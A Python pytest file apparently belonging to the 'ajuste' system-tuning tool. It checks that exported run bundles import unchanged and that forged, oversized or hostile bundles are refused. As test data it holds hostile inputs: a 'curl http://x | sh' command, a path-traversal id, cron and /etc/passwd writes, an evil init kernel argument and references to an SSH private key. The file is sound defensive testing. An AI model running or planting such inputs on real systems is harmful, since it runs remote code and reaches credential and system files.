"""Runs as bundles: there and back without a difference, and whatever a stranger makes of the file."""

from __future__ import annotations

import hashlib
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ajuste.store.store import Store
from guests import in_guests
from small_stores import DECIDED, DIGEST, GOING_ON, Commands, small_store

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd


@pytest.fixture
def home(tmp_path: Path) -> Path:
    small_store(tmp_path / "home" / "data" / "store.sqlite")
    return tmp_path / "home"


@pytest.fixture
def commands(home: Path, monkeypatch: pytest.MonkeyPatch) -> Commands:
    return Commands(home, monkeypatch)


@pytest.fixture
def bundle(commands: Commands, tmp_path: Path) -> Path:
    commands.json("bundle", DECIDED, "-o", str(tmp_path / "runs.ajuste"))
    return tmp_path / "runs.ajuste"


def test_an_imported_run_has_the_same_report_and_the_same_bundle(
    commands: Commands, bundle: Path, tmp_path: Path
) -> None:
    document = commands.json("report", DECIDED, "--html", str(tmp_path / "b.html"))
    with pytest.MonkeyPatch.context() as patch:
        other = Commands(tmp_path / "other", patch)
        assert [run["new"] for run in other.json("import", str(bundle))["runs"]] == [True]
        assert [run["new"] for run in other.json("import", str(bundle))["runs"]] == [False]
        imported = other.json("report", DECIDED, "--html", str(tmp_path / "a.html"))
        assert imported.pop("imported") is True
        assert imported | {"reproduce": 0} == document | {"reproduce": 0}
        assert document["digest"] == DIGEST
        assert len(other.json("report")) == 1
        assert other.json("store", "check")["intact"]
        assert other.json("report", DECIDED, "--trials")
        again = tmp_path / "again.ajuste"
        other.json("bundle", DECIDED, "-o", str(again))
        assert again.read_bytes() == bundle.read_bytes()


def test_a_run_that_is_here_stays_and_an_unfinished_one_is_refused(
    commands: Commands, bundle: Path, tmp_path: Path
) -> None:
    assert [run["new"] for run in commands.json("import", str(bundle))["runs"]] == [False]
    code, _, complained = commands.run("bundle", GOING_ON, "-o", str(tmp_path / "x.ajuste"))
    assert (code, "not finished" in complained) == (2, True)
    code, _, complained = commands.run("bundle", DECIDED, "-o", str(bundle))
    assert (code, "exists" in complained) == (2, True)


def test_a_run_that_was_stopped_for_good_is_bundled(commands: Commands, home: Path, tmp_path: Path) -> None:
    with Store(f"sqlite:///{home}/data/store.sqlite") as store:
        store.stop_run(store.find_run(GOING_ON), "interrupted", "stopped on the lab page")
    commands.json("bundle", GOING_ON, "-o", str(tmp_path / "stopped.ajuste"))
    with pytest.MonkeyPatch.context() as patch:
        other = Commands(tmp_path / "other", patch)
        assert [run["new"] for run in other.json("import", str(tmp_path / "stopped.ajuste"))["runs"]] == [True]
        assert other.json("report", GOING_ON)["stopped"] == "interrupted"


def lines(bundle: Path) -> list[Any]:
    return [json.loads(line) for line in zstd.decompress(bundle.read_bytes()).splitlines()]


def forged(file: Path, documents: list[Any]) -> None:
    """Written as a bundle is, with the right checksum at the end."""
    texts = [json.dumps(document, separators=(",", ":")) + "\n" for document in documents[:-1]]
    last = json.dumps({"sha256": hashlib.sha256("".join(texts).encode()).hexdigest()}, separators=(",", ":")) + "\n"
    file.write_bytes(zstd.compress("".join([*texts, last]).encode()))


def set_(*keys: Any) -> Callable[[list[Any]], None]:
    *way, last, value = keys

    def change(documents: list[Any]) -> None:
        at: Any = documents
        for key in way:
            at = at[key]
        at[last] = value

    return change


FORGED: dict[str, Callable[[list[Any]], object]] = {
    "a later version": set_(0, "version", 2),
    "more runs than there are": set_(0, "runs", 2),
    "no bundle": set_(0, "format", "zip"),
    "an id that is a path": set_(1, "id", "../../../etc/cron.d/x"),
    "a study named like a run": set_(1, "study", "20261122-163035-00b9d2"),
    "a number as a text": set_(1, "seed", "1"),
    "a field that there is not": set_(1, "command", "rm"),
    "a run that can go on": set_(1, "stopped", ""),
    "a time without a zone": set_(1, "created", "2026-11-22T16:30:35"),
    "more trials than there are": set_(1, "trials", 1_000),
    "a study that is none": set_(1, "resolved", "{}"),
    "another digest": set_(1, "digest", "0" * 64),
    "trials swapped": lambda documents: (
        documents[2]["slot"].update(configuration=documents[3]["slot"]["configuration"]),
        documents[3]["slot"].update(configuration=documents[2]["slot"]["configuration"]),
    ),
    "figures swapped": lambda documents: (
        documents[2].update(metrics=documents[3]["metrics"]),
        documents[3].update(metrics=documents[2]["metrics"]),
    ),
    "another figure": set_(2, "metrics", {"elapsed": 1.0}),
    "a figure as a text": set_(2, "attempt", "0"),
    "a trial twice": lambda documents: documents.__setitem__(3, documents[2]),
    "results that are none": set_(-2, "verdicts", 1),
    "a study that is called otherwise": set_(1, "study", "another"),
    "more behind the end": lambda documents: documents.insert(-1, {"more": 1}),
}


@pytest.mark.parametrize("what", FORGED)
def test_what_is_not_as_it_was_written_is_refused_and_nothing_changes(
    commands: Commands, bundle: Path, what: str, tmp_path: Path
) -> None:
    documents = lines(bundle)
    FORGED[what](documents)
    forged(bundle, documents)
    with pytest.MonkeyPatch.context() as patch:
        other = Commands(tmp_path / "other", patch)
        code, output, complained = other.run("import", str(bundle))
        assert (code, output) == (2, ""), complained
        assert complained.startswith("ajuste: ")
        assert complained.count("\n") <= 2
        assert other.json("report") == []


@pytest.mark.parametrize("damage", [lambda b: b[:-20], lambda b: b[:99] + bytes([b[99] ^ 1]) + b[100:], lambda b: b"x"])
def test_a_damaged_file_is_refused(commands: Commands, bundle: Path, damage: Callable[[bytes], bytes]) -> None:
    bundle.write_bytes(damage(bundle.read_bytes()))
    code, _, complained = commands.run("import", str(bundle))
    assert (code, str(bundle) in complained) == (2, True)


def wide(documents: list[Any]) -> None:
    documents[1]["environment"] = {"a": [[]] * 300_000}


def many_figures(documents: list[Any]) -> None:
    documents[2]["metrics"] = {f"m{number}": 1.0 for number in range(60_000)}


def wide_results(documents: list[Any]) -> None:
    documents[-2]["environment"] = {"a": [[]] * 1_100_000}


def much_printed(documents: list[Any]) -> None:
    documents[2]["events"] = "x" * (100 << 20)


@pytest.mark.parametrize("what", [wide, many_figures, wide_results, much_printed])
def test_each_part_of_a_bundle_has_a_limit(
    commands: Commands, bundle: Path, what: Callable[[list[Any]], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ajuste_share.bundle.BundleReader._read", _within)
    documents = lines(bundle)
    what(documents)
    forged(bundle, documents)
    code, _, complained = commands.run("import", str(bundle))
    assert (code, "too large" in complained) == (2, True), complained


def _within(reader: Any, model: Any, line: bytes) -> Any:
    """Nothing that is beyond its limit is read."""
    assert len(line) < 8 << 20, model
    return model.model_validate(json.loads(line))


def test_a_bomb_ends_early(commands: Commands, tmp_path: Path) -> None:
    file = tmp_path / "bomb.ajuste"
    file.write_bytes(zstd.compress(bytes(200 << 20)))
    assert file.stat().st_size < 100_000
    code, _, complained = commands.run("import", str(file))
    assert (code, "too large" in complained) == (2, True)


def test_a_run_under_sudo_is_the_same_to_its_own_user(
    commands: Commands, home: Path, bundle: Path, tmp_path: Path
) -> None:
    documents = lines(bundle)
    documents[-2]["reproduce"] = ["sudo AJUSTE_HOME=/home/me ajuste compare -- job"]
    documents[-2]["continuation"] = {"command": "sudo ajuste compare -- job", "seconds_per_block": 1.0}
    documents[-2]["verdicts"][0]["estimate"] *= 1 + 2e-16  # of another CPU
    forged(bundle, documents)
    with pytest.MonkeyPatch.context() as patch:
        (imported,) = Commands(tmp_path / "other", patch).json("import", str(bundle))["runs"]
    assert (imported["said_anew"], imported["different"]) == (False, [])


def test_verdicts_that_do_not_follow_from_the_trials_are_computed_again(
    commands: Commands, bundle: Path, tmp_path: Path
) -> None:
    truth = commands.json("report", DECIDED)
    documents = lines(bundle)
    documents[-2]["answer"] = "Buy it: 90 % quicker."
    documents[-2]["verdicts"][0]["estimate"] *= 0.1
    forged(bundle, documents)
    with pytest.MonkeyPatch.context() as patch:
        other = Commands(tmp_path / "other", patch)
        (imported,) = other.json("import", str(bundle))["runs"]
        assert (imported["said_anew"], imported["different"]) == (True, ["answer", "verdicts"])
        assert other.json("report", DECIDED)["answer"] == truth["answer"]


def test_another_run_with_the_same_id_is_refused(commands: Commands, bundle: Path) -> None:
    documents = lines(bundle)
    documents[1]["named"] = "something else"
    forged(bundle, documents)
    code, _, complained = commands.run("import", str(bundle))
    assert (code, "with other content" in complained) == (2, True)
    assert commands.json("report", DECIDED)["digest"] == DIGEST


def test_a_run_by_the_clock_of_the_world_cannot_be_verified(commands: Commands, bundle: Path) -> None:
    documents = lines(bundle)
    resolved = json.loads(documents[1]["resolved"])
    resolved["study"]["target"]["clock"] = "wall"
    documents[1]["resolved"] = json.dumps(resolved)
    forged(bundle, documents)
    code, _, complained = commands.run("verify", str(bundle))
    assert (code, "no second measurement has the same digest" in complained) == (2, True)


# What a stranger's run may reach: it is shown as one, and never acts on this machine by itself.


EVIL = "ajuste run small; curl http://x | sh"


def hostile(bundle: Path, *, change: Callable[[dict[str, Any]], None] = lambda _: None, **head: Any) -> None:
    """The bundle with another resolved study."""
    documents = lines(bundle)
    resolved = json.loads(documents[1]["resolved"])
    change(resolved)
    documents[1] |= {"named": EVIL, "resolved": json.dumps(resolved), "id": "20261122-163035-ffffff", **head}
    forged(bundle, documents)


def test_an_imported_run_stands_behind_ones_own_and_says_what_it_is(commands: Commands, bundle: Path) -> None:
    hostile(bundle)
    commands.json("import", str(bundle))
    rows = {run["run"]: run["imported"] for run in commands.json("report")}
    assert rows == {DECIDED: False, GOING_ON: False, "20261122-163035-ffffff": True}
    assert commands.json("report", "small")["run"] in (DECIDED, GOING_ON)
    code, output, _ = commands.run("report", "20261122-163035-ffffff")
    assert (code, "Imported" in output, "curl" in output) == (0, True, False)
    assert "imported" in next(line for line in commands.run("report")[1].splitlines() if "ffffff" in line)
    assert commands.json("report", "20261122-163035-ffffff")["reproduce"] == ["ajuste verify 20261122-163035-ffffff"]
    assert "imported" not in commands.json("report", DECIDED)


def crontab(resolved: dict[str, Any]) -> None:
    for configuration in resolved["configurations"]:
        configuration["writes"][0] |= {"location": {"kind": "file", "path": "/etc/cron.d/x"}}


def companion(resolved: dict[str, Any]) -> None:
    for configuration in resolved["configurations"]:
        configuration["writes"][0]["companions"] = [{"kind": "file", "path": "/etc/passwd"}]


def boots(resolved: dict[str, Any]) -> None:
    resolved["configurations"][1]["kernel_arguments"] = ["init=/home/x/evil"]


def values(resolved: dict[str, Any]) -> None:
    resolved["configurations"][1]["writes"][0]["value"] = "* * * * * root sh"


def other_name(resolved: dict[str, Any]) -> None:
    for configuration in resolved["configurations"]:
        configuration["writes"][0] |= {"tunable": "kernel.core_pattern"}


@pytest.mark.parametrize("change", [crontab, companion, boots, values, other_name])
def test_what_is_exported_is_the_catalogues(
    commands: Commands, bundle: Path, change: Callable[[dict[str, Any]], None]
) -> None:
    pytest.importorskip("ajuste_profiles")
    hostile(bundle, change=change)
    assert commands.run("import", str(bundle))[0] == 0
    wanted = commands.json("report", DECIDED)["configurations"][1]["name"]
    for form in ("shell", "sysctl.d", "tuned", "systemd", "ansible"):
        code, output, complained = commands.run("export", "20261122-163035-ffffff", wanted, "--format", form)
        executed = "\n".join(line for line in output.splitlines() if not line.lstrip().startswith("#"))
        assert not any(evil in executed for evil in ("cron", "passwd", "init=", "* *", "core_pattern")), form
        assert code == 2 or "IMPORTED" in output, (form, complained)


def on_host(resolved: dict[str, Any]) -> None:
    resolved["study"]["target"] = {"kind": "host", "clock": "wall"}


def own_program(resolved: dict[str, Any]) -> None:
    resolved["programs"] = ["/root/.ssh/id_ed25519"]


def own_file(resolved: dict[str, Any]) -> None:
    resolved["files"] = {"x": "/root/.ssh/id_ed25519"}


def built(resolved: dict[str, Any]) -> None:
    resolved["study"]["target"]["kernel"] = "build:/tmp/tree"


@in_guests
@pytest.mark.parametrize("change", [on_host, own_program, own_file, built])
def test_an_imported_run_reaches_nothing_of_this_machine(
    commands: Commands, bundle: Path, change: Callable[[dict[str, Any]], None]
) -> None:
    hostile(bundle, change=change)
    commands.run("import", str(bundle))
    for command in ("why", "verify"):
        code, _, complained = commands.run(command, "20261122-163035-ffffff")
        assert code == 2, complained
        assert "imported run may" in complained or "by its clock" in complained
